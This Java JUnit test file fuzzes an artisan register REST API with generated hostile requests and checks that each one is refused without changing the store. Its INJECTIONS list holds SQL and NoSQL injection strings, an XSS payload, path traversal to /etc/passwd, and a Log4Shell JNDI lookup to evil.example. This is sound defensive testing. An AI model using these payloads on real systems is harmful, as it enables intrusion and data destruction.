package ma.crafts.register.standalone;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.mongodb.client.MongoDatabase;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import ma.crafts.register.standalone.SeededCases.Case;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInfo;
import org.springframework.context.ApplicationContext;

/**
 * Generated hostile requests against the running register (the application context the other
 * {@link SharedRegisterContext} suites use), drawn with a seeded random generator ({@link SeededCases}; a failure
 * names the {@code -Dhostile.seed} that replays it). Every request gets a 4xx problem+json, and after each suite the
 * store holds the same events and every other collection the same documents as before it.
 *
 * <p>Most requests are registrations of a fresh CIN that would succeed but for the one hostile value, so a 4xx shows
 * that the value itself was refused. Decisions per generator:
 * <ul>
 *   <li>Injection strings go into fields with a closed form (CIN, codes, gender, dates, route) and into path ids and
 *   query parameters: 400, or 404 for an id that names nothing. Not into names and addresses, where quotes and
 *   semicolons are legitimate text that is sealed, never interpreted.</li>
 *   <li>{@code $}-prefixed and dotted keys: as an operator object in place of a value, 400. As extra keys beside known
 *   fields they are ignored like any unknown key (Jackson's default), so they ride on an amendment that changes
 *   nothing: 409 no-change shows they were not applied.</li>
 *   <li>Non-NFC Arabic is legitimate and normalised: an amendment to the NFC name the artisan has, written decomposed,
 *   is 409 no-change.</li>
 * </ul>
 */
@SharedRegisterContext
class HostileInputTest {

    private static final String HOSTILE = "@@HOSTILE@@";
    private static final String PROVINCE = RegisterFixtures.PROVINCE;
    /** Names written in NFC with letters that have a canonical decomposition (hamza and madda forms). */
    private static final Map<String, String> NFC_ARABIC_NAME = Map.of("ar", "أمينة", "fr", "Amina");
    private static final Map<String, String> NFC_ARABIC_SURNAME = Map.of("ar", "آيت إبراهيم", "fr", "Ait Brahim");

    private static Api api;
    private static String clerk;
    private static String auditor;
    private static RegisterFixtures fixtures;
    private static MongoDatabase database;
    private static String nfcArtisan;

    private StoreSnapshot before;
    private SeededCases draw;

    @BeforeAll
    static void connect(ApplicationContext context) {
        int port = context.getEnvironment().getRequiredProperty("local.server.port", Integer.class);
        api = new Api(port);
        database = context.getBean(MongoDatabase.class);
        clerk = api.token("hostile-clerk", List.of("CHAMBER_CLERK"), RegisterFixtures.OWN_REGION);
        auditor = api.token("hostile-auditor", List.of("AUDITOR"), null);
        fixtures = RegisterFixtures.of(port);
        Map<String, Object> artisan = new LinkedHashMap<>(Api.artisan(RegisterFixtures.freshCin(), PROVINCE, fixtures.activityCode));
        artisan.put("firstName", NFC_ARABIC_NAME);
        artisan.put("lastName", NFC_ARABIC_SURNAME);
        Api.Reply registered = api.post("/api/v1/artisans", clerk, artisan);
        assertThat(registered.status()).as("%s", registered.body()).isEqualTo(201);
        nfcArtisan = registered.body().get("artisanId").asText();
    }

    /** Around a test factory, Jupiter runs these before it and after all the dynamic tests it returned have run. */
    @BeforeEach
    void settle(TestInfo suite) throws InterruptedException {
        draw = SeededCases.forSuite(suite.getTestMethod().orElseThrow().getName());
        before = StoreSnapshot.settled(database);
    }

    @AfterEach
    void nothingWasStored() {
        assertThat(StoreSnapshot.of(database)).as("events and collections after the suite").isEqualTo(before);
    }

    // ---- injection strings ----------------------------------------------------------------------------------------

    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "\"; db.dropDatabase(); //", "{\"$gt\": \"\"}",
            "$where", "$ne", "this.cin == this.cin", "'; sleep(5000); '", "<script>alert(1)</script>",
            "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "#{7*7}", "%00", "' || '1'=='1", "a.b.c",
            "$.cin", "__proto__", "constructor.prototype", "1; DROP TABLE artisans", "\\x00", "*", ".*", "$regex");

    private static final List<String> CLOSED_FIELDS = List.of("cin", "provinceCode", "activityCode", "gender",
            "birthDate", "qualification.route");

    @TestFactory
    Stream<DynamicTest> injectionStringsInClosedFieldsAreRefused() {
        return draw.cases(90, () -> {
            String field = draw.of(CLOSED_FIELDS);
            String injection = draw.of(INJECTIONS);
            String value = draw.bool() ? validValue(field) + injection : injection;
            return new Case(field + "=" + value, () -> refused(
                    api.sendRaw("POST", "/api/v1/artisans", clerk, registrationWith(field, jsonString(value))),
                    field + "=" + value, 400));
        });
    }

    private static final List<String> TARGETS = List.of("/api/v1/artisans/{x}", "/api/v1/artisans/{x}/history",
            "/api/v1/artisans/{x}/eligibility", "/api/v1/artisans?regionCode={x}", "/api/v1/artisans?provinceCode={x}",
            "/api/v1/artisans?status={x}", "/api/v1/artisans?branchCode={x}", "/api/v1/artisans?page={x}",
            "/api/v1/artisans?size={x}", "/api/v1/artisans/{artisan}?minPosition={x}", "/api/v1/artisans/{artisan}?asOf={x}",
            "/api/v1/notifications?regionCode={x}", "/api/v1/artisans/{x}/suspension", "/api/v1/cards/{x}/renewal");

    @TestFactory
    Stream<DynamicTest> injectionStringsInPathsAndQueriesAreRefused() {
        return draw.cases(80, () -> {
            String target = draw.of(TARGETS);
            String injection = draw.of(INJECTIONS);
            String encoded = URLEncoder.encode(injection, StandardCharsets.UTF_8).replace("+", "%20");
            String path = target.replace("{x}", encoded).replace("{artisan}", fixtures.artisan);
            return new Case(path, () -> {
                boolean write = path.endsWith("/suspension") || path.endsWith("/renewal");
                Api.Reply reply = write ? api.post(path, clerk, Map.of("reason", "hostile")) : api.get(path, auditor);
                if ((injection.contains("/") || injection.contains("\\")) && !target.contains("?")) {
                    // Known deviation: Tomcat refuses an encoded slash or backslash in a path (%2F, %5C) itself, with an
                    // HTML 400 page, before the register's problem+json error handling is reached.
                    assertThat(reply.status()).as(path).isEqualTo(400);
                    return;
                }
                refused(reply, path, 400, 404);
            });
        });
    }

    // ---- $-prefixed and dotted keys -------------------------------------------------------------------------------

    private static final List<String> OPERATOR_KEYS = List.of("$gt", "$ne", "$regex", "$where", "$set", "$unset",
            "$inc", "$", "a.b", "firstName.ar", "card.status", "..", "$expr");

    private static final List<String> ANY_FIELDS = List.of("cin", "firstName", "firstName.ar", "firstName.fr", "lastName",
            "lastName.ar", "lastName.fr", "birthDate", "gender", "phone", "address", "provinceCode", "activityCode",
            "qualification", "qualification.route", "qualification.yearsOfPractice");

    @TestFactory
    Stream<DynamicTest> operatorObjectsInPlaceOfValuesAreRefused() {
        return draw.cases(80, () -> {
            String field = draw.of(ANY_FIELDS);
            String operator = "{" + jsonString(draw.of(OPERATOR_KEYS)) + ":{\"$set\":{\"status\":\"STRUCK_OFF\"},\"x.y\":\"\"}}";
            return new Case(field + "=" + operator, () -> refused(
                    api.sendRaw("POST", "/api/v1/artisans", clerk, registrationWith(field, operator)), field + "=" + operator, 400));
        });
    }

    @TestFactory
    Stream<DynamicTest> operatorAndDottedKeysBesideKnownFieldsAreNotApplied() {
        return draw.cases(60, () -> {
            String key = draw.of(OPERATOR_KEYS);
            Map<String, Object> amendment = new LinkedHashMap<>();
            amendment.put("phone", RegisterFixtures.PHONE);
            Map<String, Object> operator = Map.of("status", "STRUCK_OFF", "regionCode", "MA-03", "provinceCode", "MA-FES");
            if (draw.bool()) {
                Map<String, Object> name = new LinkedHashMap<>(Map.of("ar", "فاطمة", "fr", "Fatima"));
                name.put(key, operator);
                amendment.put("firstName", name);
            } else {
                amendment.put(key, operator);
            }
            return new Case(String.valueOf(amendment), () -> {
                Api.Reply reply = api.post("/api/v1/artisans/" + fixtures.artisan + "/amendments", clerk, amendment);
                refused(reply, String.valueOf(amendment), 409);
                assertThat(reply.body().get("detail").asText()).contains("no-change");
            });
        });
    }

    // ---- huge values, deep nesting ---------------------------------------------------------------------------------

    private static final List<String> TEXT_FIELDS = List.of("cin", "firstName.ar", "firstName.fr", "lastName.ar",
            "lastName.fr", "phone", "address", "provinceCode", "activityCode");

    private static final List<String> HUGE_FILLERS = List.of("A", "7", "ب", "é", "ab ", "\uD83D\uDE00");

    @TestFactory
    Stream<DynamicTest> hugeValuesAreRefused() {
        return draw.cases(40, () -> {
            String field = draw.of(TEXT_FIELDS);
            // Mostly beyond the field limits yet within the request size limit; one in four beyond both.
            int length = draw.chance(3, 4) ? draw.between(301, 60_000) : draw.between(70_000, 300_000);
            String filler = draw.of(HUGE_FILLERS);
            String what = field + " of " + length + " chars of " + filler;
            return new Case(what, () -> {
                String value = filler.repeat(length / filler.length() + 1).substring(0, length);
                refused(api.sendRaw("POST", "/api/v1/artisans", clerk, registrationWith(field, jsonString(value))), what, 400, 413);
            });
        });
    }

    @TestFactory
    Stream<DynamicTest> deepNestingIsRefused() {
        return draw.cases(40, () -> {
            String field = draw.bool() ? draw.of(ANY_FIELDS) : "";
            int depth = draw.between(500, 12_000);
            boolean arrays = draw.bool();
            String what = (field.isEmpty() ? "the body" : field) + (arrays ? " arrays " : " objects ") + depth + " deep";
            return new Case(what, () -> {
                String nested = (arrays ? "[" : "{\"a\":").repeat(depth) + "1" + (arrays ? "]" : "}").repeat(depth);
                String body = field.isEmpty() ? nested : registrationWith(field, nested);
                refused(api.sendRaw("POST", "/api/v1/artisans", clerk, body), what, 400, 413);
            });
        });
    }

    private static final List<String> HUGE_NUMBERS = List.of("1e99999", "-1e400", "123456789012345678901234567890",
            "9223372036854775808", "-9223372036854775809", "2147483648", "1.7976931348623157e309", "NaN", "Infinity",
            "-0.0e-99999");

    private static final List<String> NUMBER_FIELDS = List.of("qualification.yearsOfPractice", "cin", "phone", "birthDate");

    @TestFactory
    Stream<DynamicTest> hugeNumbersAreRefused() {
        return draw.cases(30, () -> {
            String number = draw.bool() ? draw.of(HUGE_NUMBERS) : "9".repeat(draw.between(20, 5_000));
            String field = draw.of(NUMBER_FIELDS);
            return new Case(field + "=" + number, () -> refused(
                    api.sendRaw("POST", "/api/v1/artisans", clerk, registrationWith(field, number)), field + "=" + number, 400));
        });
    }

    // ---- wrong types ------------------------------------------------------------------------------------------------

    private static final List<String> WRONG_TYPED_VALUES = List.of("12", "12.5", "true", "false", "[]", "[\"MA-MAR\"]",
            "{}", "{\"value\":\"x\"}", "[[[]]]", "\"text\"", "-1");

    @TestFactory
    Stream<DynamicTest> wrongTypesAreRefused() {
        return draw.cases(90, () -> {
            String field = draw.of(ANY_FIELDS);
            String wrong = wrongTypeFor(field, draw.of(WRONG_TYPED_VALUES));
            return new Case(field + "=" + wrong, () -> refused(
                    api.sendRaw("POST", "/api/v1/artisans", clerk, registrationWith(field, wrong)), field + "=" + wrong, 400));
        });
    }

    /** Fields whose value is not a JSON string: the names and the qualification objects, and the years of practice. */
    private static final Set<String> NON_STRING_FIELDS = Set.of("firstName", "lastName", "qualification",
            "qualification.yearsOfPractice");

    /**
     * {@code value}, unless it is of the field's own type: the one numeric field takes 12 as text instead, and a field
     * written as a JSON string takes "text" as an array of it.
     */
    private static String wrongTypeFor(String field, String value) {
        if (field.equals("qualification.yearsOfPractice") && value.equals("12")) {
            return "\"12\"";
        }
        return !NON_STRING_FIELDS.contains(field) && value.equals("\"text\"") ? "[\"text\"]" : value;
    }

    private static final List<String> WRONG_BODIES = List.of("[]", "\"text\"", "42", "null", "true", "", "{", "{\"cin\":",
            "{\"cin\" \"A1\"}", "{'cin':'A1'}", "[{\"cin\":\"A1\"}]", "{\"cin\":\"A1\",}", "\uFEFF{}", "{} {}",
            "{\"a\":1}garbage");

    @TestFactory
    Stream<DynamicTest> bodiesOfTheWrongShapeAreRefused() {
        return draw.cases(20, () -> {
            String body = draw.of(WRONG_BODIES);
            return new Case(body.isEmpty() ? "(empty)" : body,
                    () -> refused(api.sendRaw("POST", "/api/v1/artisans", clerk, body), body, 400));
        });
    }

    // ---- invisible, direction-changing and malformed text -----------------------------------------------------------

    private static final List<String> HIDDEN = List.of("\u0000", "\u202E", "\u202D", "\u2066", "\u200B", "\u200E",
            "\uFEFF", "\u2028", "\u0007", "\uD800", "\uDFFF", "\uE000", "\u0085");

    @TestFactory
    Stream<DynamicTest> invisibleAndMalformedCharactersAreRefused() {
        return draw.cases(100, () -> {
            String field = draw.of(TEXT_FIELDS);
            String hidden = draw.of(HIDDEN);
            String valid = validValue(field);
            // Inside the value: surrounding whitespace (U+2028 is some) is stripped, legitimately, and nothing of it stored.
            int at = 1 + (int) Math.round(draw.fraction() * (valid.length() - 2));
            String value = valid.substring(0, at) + hidden + valid.substring(at);
            String what = field + " with U+" + String.format("%04X", (int) hidden.charAt(0)) + " at " + at;
            return new Case(what, () -> refused(
                    api.sendRaw("POST", "/api/v1/artisans", clerk, registrationWith(field, jsonString(value))), what, 400));
        });
    }

    @TestFactory
    Stream<DynamicTest> nonNfcArabicIsNormalisedToTheNameItAlreadyHas() {
        return draw.cases(40, () -> {
            boolean firstName = draw.bool();
            Map<String, String> name = firstName ? NFC_ARABIC_NAME : NFC_ARABIC_SURNAME;
            String written = decompose(name.get("ar"), draw.between(1, 7));
            String amendment = "{" + jsonString(firstName ? "firstName" : "lastName") + ":{\"ar\":" + jsonString(written)
                    + ",\"fr\":" + jsonString(name.get("fr")) + "}}";
            return new Case(amendment, () -> {
                assertThat(Normalizer.isNormalized(written, Normalizer.Form.NFC)).isFalse();
                Api.Reply reply = api.sendRaw("POST", "/api/v1/artisans/" + nfcArtisan + "/amendments", clerk, amendment);
                refused(reply, amendment, 409);
                assertThat(reply.body().get("detail").asText()).contains("no-change");
            });
        });
    }

    // ---- dates out of range -----------------------------------------------------------------------------------------

    private static final List<String> MALFORMED_BIRTH_DATES = List.of("0000-01-01", "-0001-06-15", "+10000-01-01",
            "+999999999-12-31", "-999999999-01-01", "+1000000000-01-01", "2023-02-29", "1984-02-30", "1984-13-01",
            "1984-00-10", "1984-01-00", "1984-01-32", "02/03/1984", "1984-3-2", "19840302", "1984-03-02T00:00:00Z", "", " ",
            "１９８４-０３-０２");

    @TestFactory
    Stream<DynamicTest> birthDatesOutOfRangeAreRefused() {
        LocalDate today = LocalDate.now();
        return draw.cases(60, () -> {
            String birthDate = switch (draw.between(0, 3)) {
                case 0 -> today.plusDays(draw.between(0L, 3_000_000L)).toString();
                // Younger than register.policy.minimum-age (15).
                case 1 -> today.minusYears(15).plusDays(draw.between(1L, 15 * 365L)).toString();
                case 2 -> LocalDate.of(draw.between(-9999, 1899), 6, 15).toString();
                default -> draw.of(MALFORMED_BIRTH_DATES);
            };
            return new Case("birthDate=" + birthDate, () -> refused(
                    api.sendRaw("POST", "/api/v1/artisans", clerk, registrationWith("birthDate", jsonString(birthDate))),
                    "birthDate=" + birthDate, 400));
        });
    }

    private static final List<String> BAD_INSTANTS = List.of("+1000000000-01-01T00:00:00Z", "-1000000001-01-01T00:00:00Z",
            "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-01-01T25:00:00Z", "2026-01-01T00:00:60Z", "tomorrow",
            "1e99", "9999999999999999999", "2026-01-01T00:00:00+99:00", "");

    @TestFactory
    Stream<DynamicTest> instantsOutOfRangeAreRefused() {
        return draw.cases(20, () -> {
            String asOf = draw.of(BAD_INSTANTS);
            String path = "/api/v1/artisans/" + fixtures.artisan + (draw.bool() ? "/eligibility" : "") + "?asOf="
                    + URLEncoder.encode(asOf, StandardCharsets.UTF_8);
            return new Case(path, () -> refused(api.get(path, auditor), path, 400));
        });
    }

    // ---- duplicate keys ---------------------------------------------------------------------------------------------

    @TestFactory
    Stream<DynamicTest> duplicateKeysAreRefused() {
        return draw.cases(60, () -> {
            String field = draw.of(ANY_FIELDS);
            boolean sameValue = draw.bool();
            Map<String, Object> registration = registration();
            String[] path = field.split("\\.");
            @SuppressWarnings("unchecked")
            Map<String, Object> holder = path.length == 1 ? registration : (Map<String, Object>) registration.get(path[0]);
            String key = path[path.length - 1];
            String json = withDuplicate(registration, holder, key, sameValue ? holder.get(key) : otherValidValue(field));
            return new Case(json, () -> refused(api.sendRaw("POST", "/api/v1/artisans", clerk, json), json, 400));
        });
    }

    // ---- request building -------------------------------------------------------------------------------------------

    private static Map<String, Object> registration() {
        Map<String, Object> registration = new LinkedHashMap<>();
        Api.artisan(RegisterFixtures.freshCin(), PROVINCE, fixtures.activityCode).forEach((key, value) ->
                registration.put(key, value instanceof Map<?, ?> nested ? new LinkedHashMap<>(nested) : value));
        return registration;
    }

    /** A registration that would succeed, with {@code field} (dotted for a nested one) set to the raw JSON {@code value}. */
    @SuppressWarnings("unchecked")
    private static String registrationWith(String field, String value) {
        Map<String, Object> registration = registration();
        String[] path = field.split("\\.");
        Map<String, Object> holder = path.length == 1 ? registration : (Map<String, Object>) registration.get(path[0]);
        holder.put(path[path.length - 1], HOSTILE);
        return write(registration).replace("\"" + HOSTILE + "\"", value);
    }

    @SuppressWarnings("unchecked")
    private static String validValue(String field) {
        Map<String, Object> registration = registration();
        String[] path = field.split("\\.");
        Object value = path.length == 1 ? registration.get(field) : ((Map<String, Object>) registration.get(path[0])).get(path[1]);
        return String.valueOf(value);
    }

    private static Object otherValidValue(String field) {
        return switch (field) {
            case "cin" -> RegisterFixtures.freshCin();
            case "firstName", "lastName" -> Map.of("ar", "سعيد", "fr", "Said");
            case "firstName.ar", "lastName.ar" -> "سعيد";
            case "firstName.fr", "lastName.fr" -> "Said";
            case "birthDate" -> "1980-01-01";
            case "gender" -> "M";
            case "phone" -> "+212600000000";
            case "address" -> "Rue 1, Marrakech";
            case "provinceCode" -> "MA-HAO";
            case "qualification" -> Map.of("route", "EXPERIENCE", "yearsOfPractice", 5);
            case "qualification.route" -> "DIPLOMA";
            case "qualification.yearsOfPractice" -> 5;
            default -> fixtures.activityCode;
        };
    }

    /** {@code registration} as JSON, with {@code key} of {@code holder} (the body or a nested object) written twice. */
    private static String withDuplicate(Map<String, Object> registration, Map<String, Object> holder, String key, Object second) {
        Object first = holder.put(key, HOSTILE);
        return write(registration).replace("\"" + HOSTILE + "\"", write(first) + "," + jsonString(key) + ":" + write(second));
    }

    private static String write(Object value) {
        try {
            return Api.JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A JSON string literal with every non-ASCII and control UTF-16 unit escaped, so lone surrogates survive transport. */
    private static String jsonString(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                json.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7E) {
                json.append(String.format("\\u%04x", (int) c));
            } else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }

    /** {@code text} with the decomposable letters picked by the bits of {@code mask} (the first if none) decomposed. */
    private static String decompose(String text, int mask) {
        List<Integer> decomposable = new ArrayList<>();
        for (int i = 0; i < text.length(); i++) {
            if (!Normalizer.isNormalized(String.valueOf(text.charAt(i)), Normalizer.Form.NFD)) {
                decomposable.add(i);
            }
        }
        int picked = mask & ((1 << decomposable.size()) - 1);
        StringBuilder written = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            int rank = decomposable.indexOf(i);
            boolean pick = rank >= 0 && (picked == 0 ? rank == 0 : ((picked >> rank) & 1) == 1);
            written.append(pick ? Normalizer.normalize(String.valueOf(text.charAt(i)), Normalizer.Form.NFD) : text.charAt(i));
        }
        return written.toString();
    }

    private static void refused(Api.Reply reply, String what, Integer... statuses) {
        assertThat(reply.status()).as("%s -> %s", what, reply.body()).isIn((Object[]) statuses);
        assertThat(reply.header("Content-Type")).as("%s", what).startsWith("application/problem+json");
    }
}
